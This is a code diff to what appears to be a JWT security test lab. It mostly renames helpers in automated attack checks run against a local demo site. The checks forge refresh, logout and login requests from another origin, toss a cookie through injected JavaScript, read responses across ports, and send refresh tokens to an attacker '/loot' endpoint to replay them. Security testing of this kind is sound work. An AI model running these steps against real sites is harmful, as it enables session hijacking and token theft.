@@ -6,8 +6,9 @@ from the other two; the port is part of an origin, but not of a site, and a cook
 
 from urllib.parse import urlencode
 
-from jwtlab.attacks.actors import Stage, who_is_logged_in
+from jwtlab.attacks.actors import Lab, who_is_logged_in
 from jwtlab.attacks.registry import Evidence, attack
+from jwtlab.site.demo_users import PASSWORDS
 
 SITE = "127.0.0.1"
 OTHER_SITE = "localhost"
@@ -26,8 +27,8 @@ PLACES = {
     in_browser=True,
     each=PLACES,
 )
-def refresh_forged_by(stage: Stage, victim: str, attacker: str) -> Evidence:
-    return _send_form(stage, stage.at(victim) + "/api/token/refresh/", victim, attacker)
+def refresh_forged_by(lab: Lab, victim: str, attacker: str) -> Evidence:
+    return _send_form(lab, lab.at(victim) + "/api/token/refresh/", victim, attacker)
 
 
 @attack(
@@ -36,13 +37,13 @@ def refresh_forged_by(stage: Stage, victim: str, attacker: str) -> Evidence:
     in_browser=True,
     each=PLACES,
 )
-def logout_forged_by(stage: Stage, victim: str, attacker: str) -> Evidence:
-    return _send_form(stage, stage.at(victim) + "/logout/", victim, attacker)
+def logout_forged_by(lab: Lab, victim: str, attacker: str) -> Evidence:
+    return _send_form(lab, lab.at(victim) + "/logout/", victim, attacker)
 
 
-def _send_form(stage: Stage, target: str, victim: str, attacker: str) -> Evidence:
-    page = stage.logged_in_page(stage.visitor(), at=stage.at(victim))
-    sent = page.go(f"{stage.evil_at(attacker)}/form/?{urlencode({'action': target})}").answer(target)
+def _send_form(lab: Lab, target: str, victim: str, attacker: str) -> Evidence:
+    page = lab.logged_in_page(lab.visitor(), at=lab.at(victim))
+    sent = page.go(f"{lab.attacker_at(attacker)}/form/?{urlencode({'action': target})}").answer(target)
     cookie = "sent" if any("refresh" in name for name in sent.cookies) else "not sent"
     return Evidence(sent.status < 300, f"{sent.site}, cookie {cookie}: {sent.status}")
 
@@ -52,11 +53,11 @@ def _send_form(stage: Stage, target: str, victim: str, attacker: str) -> Evidenc
     source="ASVS 3.5.1, rfc6265bis §8.8",
     in_browser=True,
 )
-def login_forged_by_another_site(stage: Stage) -> Evidence:
-    fields = {"action": stage.url + "/login/", "username": "mallory", "password": "mallory-attacks"}
-    page = stage.visitor().open(f"{stage.evil_at(OTHER_SITE)}/form/?{urlencode(fields)}")
-    sent = page.answer(stage.url + "/login/")
-    who = who_is_logged_in(page.go(stage.url + "/app/cookie/"))
+def login_forged_by_another_site(lab: Lab) -> Evidence:
+    fields = {"action": lab.url + "/login/", "username": "mallory", "password": PASSWORDS["mallory"]}
+    page = lab.visitor().open(f"{lab.attacker_at(OTHER_SITE)}/form/?{urlencode(fields)}")
+    sent = page.answer(lab.url + "/login/")
+    who = who_is_logged_in(page.go(lab.url + "/app/cookie/"))
     return Evidence(who == "mallory", f"login {sent.status}; then logged in: {who}")
 
 
@@ -65,14 +66,14 @@ def login_forged_by_another_site(stage: Stage) -> Evidence:
     source="rfc6265bis §8.6, ASVS 3.3.3",
     in_browser=True,
 )
-def cookie_tossed_by_a_sibling(stage: Stage) -> Evidence:
-    vitor = stage.visitor()
-    page = stage.logged_in_page(vitor, at=stage.at(SHOP))
-    ((name, value),) = stage.log_in("mallory").cookie.items()
+def cookie_tossed_by_a_sibling(lab: Lab) -> Evidence:
+    vitor = lab.visitor()
+    page = lab.logged_in_page(vitor, at=lab.at(SHOP))
+    ((name, value),) = lab.log_in("mallory").cookie.items()
     toss = f"document.cookie = '{name}={value}; Domain=shop.localhost; Path=/; Secure; SameSite=Strict'"
-    page.go(stage.evil_at(SIBLING)).run(toss)
+    page.go(lab.attacker_at(SIBLING)).run(toss)
     kept = [cookie for cookie in vitor.cookies() if cookie.domain == ".shop.localhost"]
-    who = who_is_logged_in(page.go(stage.at(SHOP) + "/app/cookie/"))
+    who = who_is_logged_in(page.go(lab.at(SHOP) + "/app/cookie/"))
     return Evidence(who == "mallory", f"cookie {'kept' if kept else 'not kept'}; logged in: {who}")
 
 
@@ -81,11 +82,11 @@ def cookie_tossed_by_a_sibling(stage: Stage) -> Evidence:
     source="ASVS 3.4.2",
     in_browser=True,
 )
-def answer_read_by_another_port(stage: Stage) -> Evidence:
-    page = stage.logged_in_page(stage.visitor())
-    refresh = {"url": stage.url + "/api/token/refresh/", "method": "POST"}
+def answer_read_by_another_port(lab: Lab) -> Evidence:
+    page = lab.logged_in_page(lab.visitor())
+    refresh = {"url": lab.url + "/api/token/refresh/", "method": "POST"}
     tries = [refresh, refresh | {"header": "X-Auth-Request: 1"}]  # without the site's own header, and with it
-    texts = [page.go(f"{stage.evil_at(SITE)}/fetch/?{urlencode(one)}").see('"read"').text for one in tries]
+    texts = [page.go(f"{lab.attacker_at(SITE)}/fetch/?{urlencode(one)}").see('"read"').text for one in tries]
     read = [text for text in texts if '"read":true' in text]
     return Evidence(bool(read), f"{len(read)} of 2 answers could be read")
 
@@ -95,10 +96,10 @@ def answer_read_by_another_port(stage: Stage) -> Evidence:
     source="rfc6265bis §8.5, ASVS 3.5.4",
     in_browser=True,
 )
-def cookie_sent_to_another_port(stage: Stage) -> Evidence:
-    page = stage.logged_in_page(stage.visitor())
-    page.go(stage.evil_at(SITE) + "/loot")
-    received = dict(cookie.split("=", 1) for cookie in stage.loot()[-1]["cookies"].split("; ") if cookie)
+def cookie_sent_to_another_port(lab: Lab) -> Evidence:
+    page = lab.logged_in_page(lab.visitor())
+    page.go(lab.attacker_at(SITE) + "/loot")
+    received = dict(cookie.split("=", 1) for cookie in lab.loot()[-1]["cookies"].split("; ") if cookie)
     stolen = {name: value for name, value in received.items() if value.startswith("eyJ")}
-    refresh = stage.thief(stolen).refresh()
+    refresh = lab.thief(stolen).refresh()
     return Evidence(refresh.ok, f"sent {', '.join(stolen) or 'no token'}; used there: {refresh.status_code}")
